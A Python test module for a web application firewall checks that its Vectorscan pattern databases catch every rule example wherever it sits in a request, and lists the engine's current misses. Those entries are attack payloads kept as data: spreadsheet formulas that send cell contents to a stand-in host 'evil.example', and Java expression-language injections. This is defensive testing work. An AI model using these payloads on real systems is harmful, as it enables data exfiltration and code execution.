"""Hyperscan's databases report every match Python's `re` finds, wherever a value sits in a buffer.

The WAF trusts its Hyperscan scans to be a superset of the rules: a value no pattern hits is never
looked at again. The `hyperscan` wheel (0.7-0.9.1, all of them) bundles Vectorscan 5.4.12, and
Vectorscan 5.4.12 loses matches in a multi-pattern database depending on what precedes them in
the buffer: `\\.\\s*(?:...|jspx?|...)[\\s.]*$` found `shell. jsp` alone, and in a buffer that
started with ten other bytes, not once compiled next to a Java rule (one space after the dot
only; Intel Hyperscan 5.4.0, Debian's libhyperscan5, finds it). So every rule's match examples
are scanned here as a request's later values are: after other values, before more.

KNOWN lists the misses this wheel has today. A new miss fails the test (a rule change met the
bug: rewrite the expression, or give the rule a prefilter, and check it here); a known one that
stops missing fails it too, so the list stays true. With another engine (`make hyperscan-intel`
builds the binding on Intel Hyperscan 5.4.2; the wheels 0.7.0-0.7.21 bundle Vectorscan 5.4.11,
which does not lose these) nothing may be missed at all.
"""

from __future__ import annotations

import re

import hyperscan
import pytest

from bastion.guards.waf.engine import WAFEngine
from bastion.guards.waf.rules import load_rules
from bastion.patterns import HYPERSCAN

BEFORE = b"x" * 40 + b"\x00"  # an earlier value of the request
AFTER = b"\x00" + b"y" * 40  # a later one

# (database, scan pattern, example): misses of the bundled Vectorscan 5.4.12 (2026-12-06). Each
# is still blocked by another rule (ssti-code-blocks, java-expression-language-objects,
# cmdi-spreadsheet-formula's glance hit settles it on the full path).
KNOWN = {
    ("single", "cmdi-spreadsheet-formula#0", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("single", "cmdi-spreadsheet-formula#0", '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")'),
    ("glance", "ssti-java-el#0", "%{#_memberAccess['allowStaticMethodAccess']=true}"),
    ("single", "ssti-java-el#0", "%{#_memberAccess['allowStaticMethodAccess']=true}"),
    ("glance", "ssti-java-el#0", "${new java.util.Scanner(x)}"),
    ("single", "ssti-java-el#0", "${new java.util.Scanner(x)}"),
}


@pytest.fixture(scope="module")
def engine() -> WAFEngine:
    if not HYPERSCAN:
        pytest.fail("the hyperscan wheel is a dependency: it should be installed")
    return WAFEngine(load_rules(), paranoia=1)


def _misses(engine: WAFEngine) -> set[tuple[str, str, str]]:
    found: set[tuple[str, str, str]] = set()
    for index, pattern in enumerate(engine._scan):
        rule = engine.rules[engine._scan_rule[index]]
        expression = re.compile(pattern.regex, re.IGNORECASE | re.DOTALL | re.ASCII)
        for example in rule.examples_match:
            if not example.isascii() or expression.search(example) is None:
                continue  # another branch of the rule matches this example
            for data in (example.encode(), BEFORE + example.encode(), BEFORE + example.encode() + AFTER):
                if not any(i == index for i, _ in engine._glance.scan_all(data, limit=1 << 20) or ()):
                    found.add(("glance", pattern.id, example))
                if not any(hit.id == pattern.id for group in engine._single_patterns() for hit in group.scan(data)):
                    found.add(("single", pattern.id, example))
    return found


def engine_version() -> str:
    database = hyperscan.Database()
    database.compile(expressions=[b"a"], ids=[0], elements=1, flags=[0])
    return database.info().decode().split()[1]  # "Version: 5.4.12 Features: ... Mode: BLOCK"


def test_the_databases_find_every_example_after_other_values(engine: WAFEngine) -> None:
    known = KNOWN if engine_version() == "5.4.12" else set()  # the bundled Vectorscan, or a correct engine
    misses = _misses(engine)
    assert misses - known == set(), "Hyperscan misses these (see the module docstring)"
    assert known - misses == set(), "no longer missed: take them out of KNOWN"
